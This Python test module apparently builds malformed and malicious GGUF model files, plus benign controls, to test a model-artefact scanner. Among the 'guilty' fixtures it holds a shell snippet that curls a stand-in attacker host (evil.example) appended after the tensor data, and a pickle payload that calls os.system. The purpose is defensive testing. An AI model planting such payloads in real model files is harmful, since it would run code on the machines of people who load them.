"""GGUF files of all versions: templates in them, counts and lengths that lie, tensors out of place."""

from __future__ import annotations

import struct

from tests.checks.model_artefact.generated.templates import ESCAPES, STOCK


def text(value: str | bytes, version: int = 3, order: str = "<") -> bytes:
    raw = value if isinstance(value, bytes) else value.encode()
    return struct.pack(order + ("I" if version == 1 else "Q"), len(raw)) + raw


def pair(key: str, value: str, version: int = 3, order: str = "<") -> bytes:
    return text(key, version, order) + struct.pack(order + "I", 8) + text(value, version, order)


def tensor(name: str, offset: int, dimensions: tuple[int, ...] = (8,), kind: int = 0) -> bytes:
    return text(name) + struct.pack(f"<I{len(dimensions)}QIQ", len(dimensions), *dimensions, kind, offset)


def gguf(
    pairs: list[bytes], tensors: list[bytes] | None = None, body: bytes = b"", *, version: int = 3, order: str = "<", to: int = 32
) -> bytes:
    listed = tensors or []
    head = b"GGUF" + struct.pack(order + ("I2I" if version == 1 else "I2Q"), version, len(listed), len(pairs))
    made = head + b"".join(pairs) + b"".join(listed)
    return made + b"\0" * (-len(made) % to) + body


ARCHITECTURE = pair("general.architecture", "llama")
TOKENS = text("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 3) + text("a") + text("b") + text("c")
NESTED = text("x.nested") + struct.pack("<IIQIQ", 9, 9, 1, 4, 2) + struct.pack("<2I", 1, 2)
ALIGNED = text("general.alignment") + struct.pack("<II", 4, 64)
NUMBERS = [text(f"x.n{kind}") + struct.pack(f"<I{code}", kind, 1) for kind, code in enumerate("BbHhIif?")]


def guilty() -> dict[str, tuple[str, bytes]]:
    """Guilty files."""
    template = ESCAPES["lipsum"]
    ways = list(ESCAPES.items())[:20]
    named = {f"template with {case}": gguf([ARCHITECTURE, pair("tokenizer.chat_template", way)]) for case, way in ways}
    structural = {
        "a second template": gguf([pair("tokenizer.chat_template", STOCK["chatml"]), pair("tokenizer.chat_template.rag", template)]),
        "a key that stands twice": gguf([pair("tokenizer.chat_template", STOCK["chatml"]), pair("tokenizer.chat_template", template)]),
        "version 2": gguf([pair("tokenizer.chat_template", template, 2)], version=2),
        "version 1": gguf([pair("tokenizer.chat_template", template, 1)], version=1),
        "the other order of bytes": gguf([pair("tokenizer.chat_template", template, 3, ">")], order=">"),
        "a template in an array": gguf([text("tokenizer.chat_templates") + struct.pack("<IIQ", 9, 8, 1) + text(template)]),
        "behind an array": gguf([TOKENS, NESTED, pair("tokenizer.chat_template", template)]),
        "a template before the file breaks": gguf([pair("tokenizer.chat_template", template), text("x") + struct.pack("<I", 77)]),
        "an unknown version": gguf([ARCHITECTURE], version=9),
        "more keys than bytes": b"GGUF" + struct.pack("<I2Q", 3, 0, 1 << 60),
        "more tensors than bytes": b"GGUF" + struct.pack("<I2Q", 3, 1 << 63, 0),
        "a text longer than the file": b"GGUF" + struct.pack("<I2QQ", 3, 0, 1, 1 << 62) + b"a" * 40,
        "an array longer than the file": gguf([text("a") + struct.pack("<IIQ", 9, 4, 1 << 61)]),
        "arrays without end": gguf([text("a") + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 40]),
        "a value of no type": gguf([text("a") + struct.pack("<I", 13) + b"\0" * 9]),
        "a tensor outside": gguf([], [tensor("w", 4096)], b"\0" * 32),
        "a tensor that is not aligned": gguf([], [tensor("w", 3)], b"\0" * 64),
        "tensors that overlap": gguf([], [tensor("w", 0, (16,)), tensor("v", 32)], b"\0" * 64),
        "too many dimensions": gguf([], [tensor("w", 0, (1,) * 9)], b"\0" * 32),
        "dimensions that overflow": gguf([], [tensor("w", 0, (1 << 62, 1 << 62))], b"\0" * 32),
        "bytes behind the tensors": gguf([], [tensor("w", 0)], b"\0" * 32 + b"#!/bin/sh\ncurl evil.example" * 4),
        "an alignment of zero": gguf([text("general.alignment") + struct.pack("<II", 4, 0)]),
        "an odd alignment": gguf([text("general.alignment") + struct.pack("<II", 4, 33)]),
        "a file that breaks off": gguf([ARCHITECTURE, TOKENS])[:60],
        "a pickle in a value": gguf([pair("x", "cposix\nsystem\n(S'id'\ntR.")]),
    }
    return {f"gguf: {case}": ("model.gguf", data) for case, data in {**named, **structural}.items()}


def innocent() -> dict[str, tuple[str, bytes]]:
    """Innocent files."""
    cases = {
        "empty": gguf([ARCHITECTURE]),
        "tensors": gguf([ARCHITECTURE, TOKENS], [tensor("w", 0), tensor("v", 32)], b"\1" * 64),
        "quantised": gguf([ARCHITECTURE], [tensor("w", 0, (256, 2), 12)], b"\1" * 288),
        "numbers and nested arrays": gguf([*NUMBERS, NESTED, TOKENS]),
        "aligned otherwise": gguf([ALIGNED], [tensor("w", 0)], b"\1" * 32, to=64),
        "padded": gguf([ARCHITECTURE], [tensor("w", 0, (9,))], b"\1" * 36 + b"\0" * 28),
        "a type from tomorrow": gguf([ARCHITECTURE], [tensor("w", 0, (9,), 200)], b"\1" * 360),
        "version 2": gguf([pair("general.architecture", "llama", 2)], version=2),
        "version 1": gguf([pair("general.architecture", "llama", 1)], version=1),
        "the other order of bytes": gguf([pair("general.architecture", "llama", 3, ">")], order=">"),
        **{f"template of {case}": gguf([ARCHITECTURE, pair("tokenizer.chat_template", way)]) for case, way in STOCK.items()},
    }
    return {f"gguf: {case}": ("model.gguf", data) for case, data in cases.items()}
